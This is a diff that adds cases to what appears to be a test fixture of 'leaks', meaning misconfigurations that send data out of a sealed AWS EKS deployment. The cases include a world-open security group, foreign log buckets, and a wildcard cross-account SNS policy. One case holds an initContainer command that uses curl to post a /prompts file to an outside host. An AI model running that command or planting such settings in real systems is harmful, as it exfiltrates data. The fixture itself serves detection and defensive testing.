@@ -865,6 +865,106 @@ const inCluster: readonly Leak[] = [
   ),
 ];
 
+const more: readonly Leak[] = [
+  leak(
+    'a security group of nodes for everybody',
+    'client',
+    (sealed) => sealed.set('NodeGroupSg', 'SecurityGroupIngress', [{ IpProtocol: '-1', CidrIp: '0.0.0.0/0' }]),
+    '0.0.0.0/0',
+    'SecurityGroupIngress.0',
+    'NodeGroupSg',
+  ),
+  leak(
+    'logs of a load balancer in a bucket of somebody',
+    'delivery',
+    (sealed) => sealed.set('Balancer', 'LoadBalancerAttributes', [{ Key: 'access_logs.s3.bucket', Value: 'theirs' }]),
+    'sealed/Balancer',
+    'theirs',
+  ),
+  leak(
+    'a target elsewhere',
+    'delivery',
+    (sealed) => sealed.set('TargetGroup', 'Targets', [{ Id: '203.0.113.5' }]),
+    'sealed/TargetGroup',
+    '203.0.113.5',
+  ),
+  added(
+    'name servers in an add-on',
+    'named-address',
+    'AWS::EKS::Addon',
+    { ConfigurationValues: JSON.stringify({ corefile: '.:53 { forward . 9.9.9.9 }' }) },
+    'Added',
+    '9.9.9.9',
+  ),
+  added(
+    'an image in values of Helm',
+    'registry',
+    'Custom::AWSCDK-EKS-HelmChart',
+    { Values: JSON.stringify({ image: { repository: 'quay.io/x/y' } }) },
+    'Added',
+    'quay.io',
+  ),
+  added(
+    'a service that acts for another account',
+    'resource-policy',
+    'AWS::SNS::TopicPolicy',
+    {
+      PolicyDocument: {
+        Statement: [
+          {
+            Effect: 'Allow',
+            Action: '*',
+            Resource: '*',
+            Principal: { Service: 's3.amazonaws.com' },
+            Condition: { StringEquals: { 'aws:SourceAccount': FOREIGN } },
+          },
+        ],
+      },
+    },
+    FOREIGN,
+    'Added',
+  ),
+  added(
+    'a record that leads elsewhere',
+    'named-address',
+    'AWS::Route53::RecordSet',
+    { ResourceRecords: ['api.example.com'] },
+    'Added',
+    'api.example.com',
+  ),
+  leak(
+    'a program that calls a host',
+    'named-address',
+    (sealed) =>
+      (sealed.pod['initContainers'] = [
+        { name: 'i', image: sealed.engine.image, command: ['sh', '-c', 'curl -d @/prompts in.example.com/x'] },
+      ]),
+    'Deployment serving/engine',
+    'in.example.com',
+  ),
+  leak(
+    'a volume of an image elsewhere',
+    'registry',
+    (sealed) => (sealed.pod['volumes'] = [{ name: 'v', image: { reference: 'ghcr.io/a/b:1' } }]),
+    PODS,
+    'ghcr.io',
+  ),
+  leak(
+    'a server by its address in a file',
+    'named-address',
+    (sealed) => setData(sealed, 'backend b\n  server s 203.0.113.7:9000 check\n', 'proxy.cfg'),
+    'ConfigMap serving/door',
+    '203.0.113.7',
+  ),
+  leak(
+    'a host in settings of a log shipper',
+    'named-address',
+    (sealed) => setData(sealed, '[OUTPUT]\n    Name  http\n    Host  logs.example.com\n', 'fluent-bit.conf'),
+    'ConfigMap serving/door',
+    'logs.example.com',
+  ),
+];
+
 const clients: readonly Leak[] = [
   leak(
     'a public load balancer',
@@ -976,6 +1076,7 @@ export const LEAKS: readonly Leak[] = [
   ...principals,
   ...deliveries,
   ...inCluster,
+  ...more,
   ...clients,
   ...rest,
 ];
